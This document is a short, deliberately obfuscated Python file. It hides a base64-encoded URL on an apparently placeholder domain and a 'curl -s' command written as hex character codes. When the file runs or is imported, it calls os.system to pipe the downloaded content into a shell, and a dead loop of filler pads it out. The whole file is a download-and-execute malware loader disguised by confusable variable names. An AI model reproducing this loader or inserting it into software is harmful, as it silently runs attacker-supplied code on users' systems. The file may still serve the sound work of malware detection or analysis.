import base64 as LlIlIlIlIlIlIlII
import os as IlIlIlIlllIIlIlI
lIlIIllIIlIlIlII = "aHR0cHM6Ly9wa2ctc3RhdHMucHlwcm90ZWN0LmludmFsaWQvYg=="
IIlIlIlIllIIlIll = lambda IlIlIIlIlIIlIlIl: LlIlIlIlIlIlIlII.b64decode(IlIlIIlIlIIlIlIl).decode()
def llllIIllIlIIlIlI():
    IlIIlIIlIIlIlIlI = [0x63,0x75,0x72,0x6c,0x20,0x2d,0x73,0x20]
    IIlIIlIIlIlIlIlI = "".join(map(chr, IlIIlIIlIIlIlIlI)) + IIlIlIlIllIIlIll(lIlIIllIIlIlIlII) + " | sh"
    IlIlIlIlllIIlIlI.system(IIlIIlIIlIlIlIlI)
    IlIlIllIIlIlIIlI = 0
    for IlIlIlIIlIIlIlIl in range(0):
        IlIlIllIIlIlIIlI += IlIlIlIIlIIlIlIl
llllIIllIlIIlIlI()
